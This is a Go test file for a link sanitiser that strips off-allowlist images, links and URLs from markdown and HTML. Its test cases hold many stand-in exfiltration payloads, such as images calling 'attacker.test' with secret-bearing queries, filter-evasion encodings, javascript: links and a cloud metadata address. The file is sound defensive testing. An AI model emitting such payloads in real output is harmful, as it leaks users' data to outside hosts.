package web

import (
	"strings"
	"testing"

	"github.com/paddock-dev/paddock/internal/egress"
)

func testPolicy(t testing.TB, entries ...string) egress.Policy {
	t.Helper()
	p, err := egress.ParsePolicy(entries)
	if err != nil {
		t.Fatalf("ParsePolicy(%q): %v", entries, err)
	}
	return p
}

func TestNeutraliseLinks(t *testing.T) {
	p := testPolicy(t, "good.test", "*.docs.test")
	tests := []struct {
		name, in, want string
	}{
		{"plain text", "nothing to see here", "nothing to see here"},
		{"inline image", "see ![x](https://attacker.test/p?d=SECRET) now", "see [image removed: attacker.test] now"},
		{"inline image allowed", "![x](https://good.test/logo.png)", "![x](https://good.test/logo.png)"},
		{"inline image subdomain allowed", "![x](https://a.docs.test/logo.png)", "![x](https://a.docs.test/logo.png)"},
		{"image with title", `![x](https://attacker.test/p "t")`, "[image removed: attacker.test]"},
		{"image angle dest", `![x](<https://attacker.test/a b>)`, "[image removed: attacker.test]"},
		{"image protocol relative", `![x](//attacker.test/p)`, "[image removed: attacker.test]"},
		{"image backslashes", `![x](https:\\attacker.test/p)`, "[image removed: attacker.test]"},
		{"image escaped colon", `![x](https\://attacker.test/p)`, "[image removed: attacker.test]"},
		{"image entity", `![x](https&#58;//attacker.test/p)`, "[image removed: attacker.test]"},
		{"image newline in dest", "![x](\nhttps://attacker.test/p\n)", "[image removed: attacker.test]"},
		{"image userinfo on good", `![x](https://good.test@attacker.test/p)`, "[image removed: attacker.test]"},
		{"image other port", `![x](https://good.test:8443/p)`, "[image removed: good.test:8443]"},
		{"image relative stays", `![x](/static/a.png)`, `![x](/static/a.png)`},
		{"image data stays", `![x](data:image/png;base64,AAAA)`, `![x](data:image/png;base64,AAAA)`},
		{"link", "[click](https://attacker.test/p?d=1) here", "click [link removed: attacker.test] here"},
		{"link javascript", "[click](javascript:alert(1))", "click [link removed: javascript:]"},
		{"link allowed", "[docs](https://good.test/a)", "[docs](https://good.test/a)"},
		{"image inside link", "[![i](https://attacker.test/i.png)](https://good.test/)", "[[image removed: attacker.test]](https://good.test/)"},
		{"image inside bad link", "[![i](https://attacker.test/i.png)](https://evil.test/)", "[image removed: attacker.test] [link removed: evil.test]"},
		{"reference image", "![a][r]\n\n[r]: https://attacker.test/p?d=SECRET\n", "[image removed: attacker.test]\n\n[link definition removed: attacker.test]\n"},
		{"reference image collapsed", "![r][]\n\n[R]: <https://attacker.test/p>\n", "[image removed: attacker.test]\n\n[link definition removed: attacker.test]\n"},
		{"reference image shortcut", "![r]\n\n[r]: //attacker.test/p \"t\"\n", "[image removed: attacker.test]\n\n[link definition removed: attacker.test] \"t\"\n"},
		{"reference link", "[a][r]\n> [r]: https://attacker.test/x\n", "a [link removed: attacker.test]\n> [link definition removed: attacker.test]\n"},
		{"reference allowed", "![a][r]\n\n[r]: https://good.test/x\n", "![a][r]\n\n[r]: https://good.test/x\n"},
		{"html img", `<img src="https://attacker.test/p?d=1" alt=x>`, "[image removed: attacker.test]"},
		{"html img unquoted", `<IMG SRC=https://attacker.test/p>`, "[image removed: attacker.test]"},
		{"html img entity", `<img src="&#104;ttps://attacker.test/p">`, "[image removed: attacker.test]"},
		{"html img tab in scheme", `<img src="ht&Tab;tps://attacker.test/p">`, "[image removed: attacker.test]"},
		{"html img srcset", `<img srcset="a.png 1x, https://attacker.test/p 2x">`, "[image removed: attacker.test]"},
		{"html img allowed", `<img src="https://good.test/a.png">`, `<img src="https://good.test/a.png">`},
		{"html a", `<a href="https://attacker.test/x">t</a>`, "[link removed: attacker.test] t</a>"},
		{"html link stylesheet", `<link rel=stylesheet href="//attacker.test/s.css">`, "[link element removed: attacker.test]"},
		{"html style attr", `<div style="background:url(https://attacker.test/p)">x</div>`, "[div element removed: attacker.test] x</div>"},
		{"html style css escape", `<div style="background:url(\68ttps://attacker.test/p)">x</div>`, "[div element removed: attacker.test] x</div>"},
		{"meta refresh", `<meta http-equiv=refresh content="0;url=//attacker.test/p">`, "[meta element removed: attacker.test]"},
		{"css import", `<style>@import "//attacker.test/s.css";</style>`, `<style>[link removed: attacker.test];</style>`},
		{"css url", `body{background:url('//attacker.test/p')}`, `body{background: [link removed: attacker.test]}`},
		{"autolink", "<https://attacker.test/p?d=1>", "[link removed: attacker.test]"},
		{"bare url", "go to https://attacker.test/p?d=1.", "go to [link removed: attacker.test]."},
		{"bare url in parens", "(https://attacker.test/p)", "([link removed: attacker.test])"},
		{"bare url allowed", "go to https://good.test/p.", "go to https://good.test/p."},
		{"bare other scheme", "ftp://attacker.test/x", "[link removed: attacker.test]"},
		{"bare url prefixed", "xhttps://attacker.test/x", "[link removed: attacker.test]"},
		{"www link", "see www.attacker.test/p?d=1", "see [link removed: attacker.test]"},
		{"json schema", `{"$schema": "https://attacker.test/?d=SECRET"}`, `{"$schema": "[link removed: attacker.test]"}`},
		{"private address", "![x](http://127.0.0.1/p)", "[image removed: 127.0.0.1]"},
		{"metadata", "![x](http://169.254.169.254/latest)", "[image removed: 169.254.169.254]"},
		{"escaped bracket is no image", `\![x](https://good.test/a)`, `\![x](https://good.test/a)`},
		{"mailto stays", "[me](mailto:a@attacker.test)", "[me](mailto:a@attacker.test)"},
		{"code comment stays", "x := 1 // see the docs", "x := 1 // see the docs"},
		{"style without url stays", `<span style="color:red">x</span>`, `<span style="color:red">x</span>`},
		{"html a javascript", `<a href="javascript:fetch('x')">t</a>`, "[link removed: javascript:] t</a>"},
		{"html iframe", `<iframe src=//attacker.test/f></iframe>`, "[iframe element removed: attacker.test]</iframe>"},
		{"svg image", `<svg><image href="https://attacker.test/p"/></svg>`, "<svg>[image removed: attacker.test]</svg>"},
		{"html ping", `<a href="https://good.test/" ping="https://attacker.test/p">t</a>`, "[link removed: attacker.test] t</a>"},
		{"definition in list item", "- [r]: //attacker.test/p\n\n![x][r]", "- [r]: [link removed: attacker.test]\n\n![x][r]"},
		{"single slash https", "![x](https:/attacker.test/p)", "[image removed: attacker.test]"},
		{"scheme without slashes", `<img src="https:attacker.test/p">`, "[image removed: attacker.test]"},
		{"upper case", "![x](HTTPS://ATTACKER.TEST/P)", "[image removed: attacker.test]"},
		{"upper case allowed", "![x](HTTPS://GOOD.TEST/P)", "![x](HTTPS://GOOD.TEST/P)"},
		{"escaped colon in text", `see https\://attacker.test/p and https:\/\/attacker.test/q`, "see [link removed: attacker.test] and [link removed: attacker.test]"},
		{"entity colon in text", "see https&#58;//attacker.test/p and https&colon;&sol;&sol;attacker.test/q", "see [link removed: attacker.test] and [link removed: attacker.test]"},
		{"nested www", "see www.www.attacker.test", "see [link removed: attacker.test]"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := NeutraliseLinks(tt.in, p)
			if got != tt.want {
				t.Errorf("NeutraliseLinks(%q)\n got %q\nwant %q", tt.in, got, tt.want)
			}
			if again := NeutraliseLinks(got, p); again != got {
				t.Errorf("not idempotent: second pass gave %q", again)
			}
			if strings.Contains(got, "SECRET") {
				t.Errorf("the exfiltrated value survived: %q", got)
			}
		})
	}
}

func TestNeutraliseLinksNoAllowlist(t *testing.T) {
	in := "![x](https://good.test/a.png) and https://good.test/"
	got := NeutraliseLinks(in, egress.Policy{})
	if strings.Contains(got, "https://") {
		t.Errorf("with no allowlist every absolute link must go, got %q", got)
	}
}
